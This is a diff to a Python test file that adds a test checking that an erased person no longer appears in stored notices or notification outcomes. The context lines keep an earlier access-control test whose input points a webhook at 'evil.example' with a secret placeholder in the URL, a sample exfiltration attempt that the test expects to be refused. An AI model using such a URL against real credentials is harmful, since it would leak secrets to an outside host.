@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 from typing import Any
 
@@ -9,7 +10,9 @@ import pytest
 
 from postroom.access import ROLES, Person
 from postroom.app import Room
+from postroom.db import Tx
 from postroom.errors import PostroomError
+from postroom.notices import store
 from postroom.secret import Secret
 from tests.journeys.conftest import Cli
 
@@ -159,3 +162,30 @@ async def test_a_restricted_credential_is_not_there_for_who_has_no_grant(room: R
             {"name": "web", "url": "https://evil.example/{secret}", "credential": "theirs"}
         )
     assert refused.value.code == "not_found"
+
+
+async def test_who_is_erased_is_in_no_notice_and_named_where_they_are_told(room: Room) -> None:
+    who = "ann@example.com"
+    await room.credentials.create(
+        "mailer",
+        "smtp",
+        description="x",
+        details={"host": "127.0.0.1", "email_address": "a@b.example"},
+    )
+    await room.notify.add({"name": "mail", "service": "credential:mailer", "to": [who]})
+    await room.notify.add({"name": "prog", "command": ["/bin/true"]})
+
+    def said(tx: Tx) -> None:
+        store.used(tx, "prog", outcome=f"550 no <{who}> here", now=1.0)
+        tx.execute(
+            "INSERT INTO notices (cause, said, since, seen_at, told_over, over_at) VALUES "
+            "('sign-in 1', :said, 1, 1, '{}', 2)",
+            said=json.dumps({"kind": "sign-in", "over": f"{who} is signed in again."}),
+        )
+
+    await room.desk.db.write(said)
+    plan = await room.erasing.plan(who)
+    assert "notification mail" in plan.settings
+    await room.erasing.erase(who)
+    assert await room.notify.notices() == []
+    assert who not in json.dumps([one["outcome"] for one in await room.notify.list()])
